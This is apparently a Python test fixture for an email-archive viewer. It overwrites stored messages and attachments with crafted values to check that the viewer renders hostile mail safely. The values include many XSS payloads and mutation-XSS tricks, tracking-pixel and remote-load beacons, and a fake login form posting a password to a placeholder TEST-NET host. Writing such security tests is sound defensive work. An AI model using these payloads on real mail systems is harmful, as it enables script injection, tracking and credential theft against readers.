"""Mails that were written to do something to who reads them."""

from __future__ import annotations

import json
from pathlib import Path

from postroom.archive import open_archive

CANARY = "http://203.0.113.7"  # TEST-NET-3 (RFC 5737): nobody is there, and nobody may be asked

HTML = (
    "<script>window.pwned = 1; alert('script')</script>",
    f"<script src='{CANARY}/s.js'></script>",
    "<img src=x onerror=\"window.pwned = 1; alert('onerror')\">",
    f"<img src='{CANARY}/pixel.gif' width=1 height=1>",
    f"<img srcset='{CANARY}/a.png 1x, {CANARY}/b.png 2x' src=''>",
    f"<picture><source srcset='{CANARY}/c.png'><img alt=p></picture>",
    "<a href=\"javascript:window.pwned = 1; alert('link')\">click me</a>",
    "<a href='java\tscript:window.pwned=1'>click me too</a>",
    '<a href="data:text/html,<script>opener.pwned = 1</script>" target=_blank>data</a>',
    f"<a href='{CANARY}/track?who=reader' ping='{CANARY}/ping'>invoice</a>",
    f"<div style=\"background-image: url('{CANARY}/bg.png')\">background</div>",
    f"<div style='background: u\\72l({CANARY}/escaped.png)'>escaped</div>",
    f"<div style='list-style-image: image-set(\"{CANARY}/set.png\" 1x)'>set</div>",
    f"<div style='content: attr(x); cursor: url({CANARY}/c.cur), auto'>cursor</div>",
    "<div style='position: fixed; inset: 0; background: red; z-index: 99'>cover everything</div>",
    f"<style>@import url('{CANARY}/i.css'); body {{ background: url({CANARY}/b.png) }}</style>",
    f"<link rel=stylesheet href='{CANARY}/l.css'><link rel=preload as=image href='{CANARY}/p.png'>",
    f"<link rel=dns-prefetch href='{CANARY}'><link rel=prefetch href='{CANARY}/p'>",
    f"<meta http-equiv=refresh content='0; url={CANARY}/refresh'>",
    f"<base href='{CANARY}/'><img src='relative.png'>",
    f"<form action='{CANARY}/form'><input name=password autofocus><button>Log in</button></form>",
    f"<iframe src='{CANARY}/frame'></iframe>",
    "<iframe srcdoc='<script>top.pwned=1</script>'></iframe>",
    f"<object data='{CANARY}/o.swf'></object><embed src='{CANARY}/e.swf'>",
    f"<video src='{CANARY}/v.mp4' poster='{CANARY}/v.png' autoplay></video>",
    f"<audio src='{CANARY}/a.mp3' autoplay></audio><bgsound src='{CANARY}/b.mid'>",
    "<svg onload=\"window.pwned = 1; alert('svg')\"><script>window.pwned = 1</script></svg>",
    f"<svg><image href='{CANARY}/svg.png'/><use href='{CANARY}/u.svg#x'/></svg>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1></style></mglyph>",
    "<math href='javascript:window.pwned=1'>CLICK</math>",
    '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>"></noscript>',
    "<body onload=window.pwned=1><p onmouseover=window.pwned=1 onfocus=window.pwned=1 tabindex=1>",
    "<details open ontoggle=window.pwned=1><summary>toggle</summary></details>",
    "<template><img src=x onerror=window.pwned=1></template>",
    f"<table background='{CANARY}/t.png'><td background='{CANARY}/td.png'>cell</td></table>",
    "<img src='/health'><img src='cid:none@nowhere'><img src='blob:null/1'>",
    "<p id=main name=said>clobbers</p><form id=search><input name=submit></form>",
    "<!--[if true]><script>window.pwned=1</script><![endif]--><![CDATA[<script>pwned=1</script>]]>",
    "<p>" + "<div>" * 3000 + "deep" + "</div>" * 3000,
)

TEXTS = (
    "<script>window.pwned = 1; alert('subject')</script>",
    '<img src=x onerror="window.pwned = 1">',
    '"><svg onload=window.pwned=1>',
    "'-alert(1)-'",
    "javascript:window.pwned=1",
    "{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1}",
    "\u202egpj.exe \u2066isolated without an end",
    "</title><script>window.pwned=1</script>",
    "&lt;b&gt;not bold&lt;/b&gt;",
    "a" * 3000,
)


def write_over(home: Path, source: str) -> None:
    """Put the crafted values over the mails of a source, in place of what was there."""
    archive = open_archive(source, home=home, dsn=None)
    with archive.transaction() as tx:
        ids = [row["id"] for row in tx.rows("SELECT id FROM email_messages ORDER BY node_path")]
        for number, email_id in enumerate(ids):
            text = TEXTS[number % len(TEXTS)]
            tx.change(
                "UPDATE email_messages SET subject = :text, sender_name = :text, body_html = :html,"
                " from_address = :text, pst_message_path = :text, transport_headers = :text,"
                " categories = :list, body_text = :text, recipients = :recipients WHERE id = :id",
                text=text,
                html=HTML[number % len(HTML)],
                list=json.dumps([text]),
                recipients=json.dumps([_recipient(text)]),
                id=email_id,
            )
        for number, row in enumerate(tx.rows("SELECT id FROM email_attachments ORDER BY id")):
            tx.change(
                "UPDATE email_attachments SET file_name = :text, long_name = :text,"
                " mime_type = 'text/html' WHERE id = :id",
                text=TEXTS[number % len(TEXTS)],
                id=row["id"],
            )


def _recipient(text: str) -> dict[str, object]:
    return {"type": 1, "name": text, "address_type": "SMTP", "address": text, "smtp": text}
